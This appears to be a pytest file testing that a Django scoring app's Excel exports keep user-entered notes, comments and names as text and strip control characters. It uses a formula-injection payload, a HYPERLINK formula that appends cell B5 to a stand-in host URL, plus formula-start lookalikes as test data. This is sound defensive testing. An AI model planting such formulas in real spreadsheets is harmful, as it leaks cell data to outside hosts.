"""Text people typed reaches the exported workbooks as text: never a live formula, and control
characters (which XML cannot hold) never break the export."""

import io

import pytest
from openpyxl import load_workbook

from exchange import exports, services
from exchange.models import ImportKind
from scoring import services as scoring_services
from scoring.models import Criterion, Official, Score, Unit
from tests.exchange.helpers import D, scores_by_code, snapshot, upload

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x"&B5,"y")'
# Other starts that spreadsheet programs read as a formula.
LOOKALIKES = ["+1+1", "-2+3", "@SUM(A1:A9)"]
CONTROL = "Đã\x01 làm\x0bđủ\x1f"


def _cells(content: bytes, sheet: str | None = None):
    """Every filled cell of the workbook (or of one page), as openpyxl reads it back."""
    workbook = load_workbook(io.BytesIO(content), data_only=False)
    pages = [workbook[sheet]] if sheet else workbook.worksheets
    return [cell for page in pages for row in page.iter_rows() for cell in row if cell.value]


def _the_cell(content: bytes, text: str, sheet: str | None = None):
    found = [cell for cell in _cells(content, sheet) if cell.value == text]
    assert found, f"{text!r} is not in the workbook"
    return found[0]


def _as_text(content: bytes, text: str, sheet: str | None = None) -> None:
    cell = _the_cell(content, text, sheet)
    assert cell.data_type == "s", (text, cell.coordinate, cell.data_type)
    assert cell.value == text


def test_a_self_assessment_note_that_looks_like_a_formula_stays_text(fresh, coordinator):
    scores = scores_by_code(fresh)
    notes = {"1.5.4": FORMULA, "1.1.1": LOOKALIKES[0], "1.1.2": LOOKALIKES[1]}
    for code, note in notes.items():
        scoring_services.score_set_self(score=scores[code], value=None, note=note)
    content = exports.export_self_sheet(fresh).content
    for note in notes.values():
        _as_text(content, note, "Tự đánh giá")
    assert _the_cell(content, FORMULA).quotePrefix  # Excel keeps it text when edited too


def test_the_self_assessment_sheets_own_sums_are_still_formulas(fresh):
    workbook = load_workbook(io.BytesIO(exports.export_self_sheet(fresh).content))
    formulas = [c for row in workbook["Tự đánh giá"].iter_rows() for c in row if c.data_type == "f"]
    assert formulas, "the parents' sums and the total are formulas Excel computes"
    # The sums (column E) add the hidden points column K, whose cells read column E.
    assert all(c.value.startswith("=K") for c in formulas if c.column == 5)
    assert all(c.value.startswith(("=N(E", "=IF(E", "=E")) for c in formulas if c.column == 11)
    assert {c.column for c in formulas} == {5, 11}


def test_a_formula_like_note_reads_back_through_the_import_unchanged(fresh, coordinator):
    scores = scores_by_code(fresh)
    scoring_services.score_set_self(score=scores["1.5.4"], value=D("0.50"), note=FORMULA)
    exported = exports.export_self_sheet(fresh)
    before = snapshot()
    record = upload(
        ImportKind.SELF_ASSESSMENT, exported.content, user=coordinator, assessment=fresh
    )
    assert record.get_preview().errors == []
    assert record.change_count == 0
    services.import_record_apply(record=record, user=coordinator)
    assert snapshot() == before


@pytest.mark.parametrize("lost_only", [True, False])
def test_an_appraisal_comment_that_looks_like_a_formula_stays_text(fresh, appraiser, lost_only):
    scores = scores_by_code(fresh)
    scoring_services.score_set_appraised(
        score=scores["1.7"], value=D("0"), comment=FORMULA, responsible_note=LOOKALIKES[2]
    )
    content = exports.export_appraisal(fresh, lost_only=lost_only).content
    _as_text(content, FORMULA, "Phụ lục")
    _as_text(content, LOOKALIKES[2], "Phụ lục")


def test_the_appraisal_table_keeps_negative_numbers_as_numbers(fresh):
    content = exports.export_appraisal(fresh, lost_only=False).content
    numbers = [c for c in _cells(content) if c.data_type == "n"]
    assert numbers and not [c for c in _cells(content) if c.data_type == "f"]


def test_control_characters_in_notes_export_without_error(fresh):
    # Older rows (or rows imported before the forms refused them) may hold control characters.
    Score.objects.filter(assessment=fresh).update(
        self_note=CONTROL, appraisal_comment=CONTROL, responsible_note=CONTROL
    )
    for content in (
        exports.export_self_sheet(fresh).content,
        exports.export_appraisal(fresh, lost_only=False).content,
    ):
        # A vertical tab (Word's line break) becomes a line break; the others are dropped.
        _as_text(content, "Đã làm\nđủ")


def test_names_in_the_framework_workbook_stay_text(phuong1_2023):
    framework = phuong1_2023.framework
    framework.name = FORMULA
    framework.save()
    criterion = Criterion.objects.filter(framework=framework).order_by("pk").first()
    criterion.guidance = LOOKALIKES[1]
    criterion.evidence_required = CONTROL
    criterion.save()
    content = exports.export_framework(framework).content
    _as_text(content, FORMULA, "Thông tin chung")
    _as_text(content, LOOKALIKES[1], "Tiêu chí")
    _as_text(content, "Đã làm\nđủ", "Tiêu chí")


def test_names_in_the_units_and_officials_lists_stay_text(db):
    Unit.objects.filter(code="TXQT-P1").update(name=FORMULA)
    Official.objects.filter(user__username="cchc.p1").update(title=LOOKALIKES[0])
    Official.objects.filter(user__username="motcua.p1").update(title=CONTROL)
    _as_text(exports.export_units(None).content, FORMULA)
    officials = exports.export_officials(None).content
    _as_text(officials, LOOKALIKES[0])
    _as_text(officials, "Đã làm\nđủ")


def test_a_unit_name_that_looks_like_a_formula_stays_text_on_the_hidden_page(fresh):
    Unit.objects.filter(pk=fresh.unit_id).update(name=FORMULA)
    fresh.unit.refresh_from_db()
    _as_text(exports.export_self_sheet(fresh).content, FORMULA, "_cchc")
